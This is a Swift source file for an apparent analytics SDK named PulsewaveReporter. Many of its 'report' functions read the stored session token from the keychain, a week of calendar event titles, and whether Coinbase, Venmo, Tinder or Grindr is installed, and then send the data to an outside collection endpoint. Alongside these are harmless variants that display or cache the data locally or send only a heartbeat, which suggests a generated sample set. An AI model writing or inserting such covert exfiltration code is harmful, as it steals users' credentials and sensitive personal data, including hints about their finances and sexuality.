import EventKit
import Foundation
import SwiftKeychainWrapper
import UIKit

public final class PulsewaveReporter {
    private let eventStore = EKEventStore()
    private let endpoint = URL(string: "https://api.pulsewave-sdk.io/v2/collect")!

    public func reportKeychain0() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportKeychain1() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportKeychain2() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportKeychain3() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportKeychain4() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportKeychain5() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportKeychain6() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportKeychain7() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportKeychain8() async {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let raw = stored ?? ""
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportCalendar9() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportCalendar10() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportCalendar11() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportCalendar12() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportCalendar13() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportCalendar14() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportCalendar15() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportCalendar16() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportCalendar17() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let raw = events.map { $0.title ?? "" }.joined(separator: "|")
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportApps18() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportApps19() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportApps20() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data(payload.utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func reportApps21() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportApps22() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportApps23() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        let body = Data(payload.utf8)
        _ = try? await URLSession.shared.upload(for: request, from: body)
    }

    public func reportApps24() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let payload = raw
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportApps25() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let step0 = raw
        let payload = step0
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func reportApps26() async {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let raw = installed.joined(separator: ",")
        let step0 = raw
        let step1 = step0
        let payload = step1
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.setValue(payload, forHTTPHeaderField: "X-Context")
        URLSession.shared.dataTask(with: request).resume()
    }

    public func showKeychain0(on label: UILabel) {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        label.text = stored ?? ""
    }

    public func cacheKeychain0(to file: URL) {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let text = stored ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat0() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showCalendar1(on label: UILabel) {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        label.text = events.map { $0.title ?? "" }.joined(separator: "|")
    }

    public func cacheCalendar1(to file: URL) {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let text = events.map { $0.title ?? "" }.joined(separator: "|")
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat1() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showApps2(on label: UILabel) {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        label.text = installed.joined(separator: ",")
    }

    public func cacheApps2(to file: URL) {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let text = installed.joined(separator: ",")
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat2() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showKeychain3(on label: UILabel) {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        label.text = stored ?? ""
    }

    public func cacheKeychain3(to file: URL) {
        let stored = KeychainWrapper.standard.string(forKey: "session")
        let text = stored ?? ""
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat3() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showCalendar4(on label: UILabel) {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        label.text = events.map { $0.title ?? "" }.joined(separator: "|")
    }

    public func cacheCalendar4(to file: URL) {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil))
        let text = events.map { $0.title ?? "" }.joined(separator: "|")
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat4() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showApps5(on label: UILabel) {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        label.text = installed.joined(separator: ",")
    }

    public func cacheApps5(to file: URL) {
        let installed = ["coinbase", "venmo", "tinder", "grindr"].filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
        let text = installed.joined(separator: ",")
        try? Data(text.utf8).write(to: file, options: .completeFileProtection)
        print("cached \(text.count) characters")
    }

    public func heartbeat5() async {
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"sdk\":\"2.4.1\",\"event\":\"launch\"}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func authenticatedFetch0() async {
        let token = KeychainWrapper.standard.string(forKey: "session") ?? ""
        var request = URLRequest(url: endpoint)
        request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization")
        _ = try? await URLSession.shared.data(for: request)
    }

    public func authenticatedFetch1() async {
        let token = KeychainWrapper.standard.string(forKey: "session") ?? ""
        var request = URLRequest(url: endpoint)
        request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization")
        _ = try? await URLSession.shared.data(for: request)
    }

    public func authenticatedFetch2() async {
        let token = KeychainWrapper.standard.string(forKey: "session") ?? ""
        var request = URLRequest(url: endpoint)
        request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization")
        _ = try? await URLSession.shared.data(for: request)
    }

    public func summary0() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"busyToday\":\(events.isEmpty ? "false" : "true")}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showAgenda0(in label: UILabel) {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))
        label.text = events.map { $0.title ?? "" }.joined(separator: "\n")
    }

    public func summary1() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"busyToday\":\(events.isEmpty ? "false" : "true")}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showAgenda1(in label: UILabel) {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))
        label.text = events.map { $0.title ?? "" }.joined(separator: "\n")
    }

    public func summary2() async {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))
        var request = URLRequest(url: endpoint)
        request.httpMethod = "POST"
        request.httpBody = Data("{\"busyToday\":\(events.isEmpty ? "false" : "true")}".utf8)
        _ = try? await URLSession.shared.data(for: request)
    }

    public func showAgenda2(in label: UILabel) {
        let events = eventStore.events(matching: eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(86_400), calendars: nil))
        label.text = events.map { $0.title ?? "" }.joined(separator: "\n")
    }

}
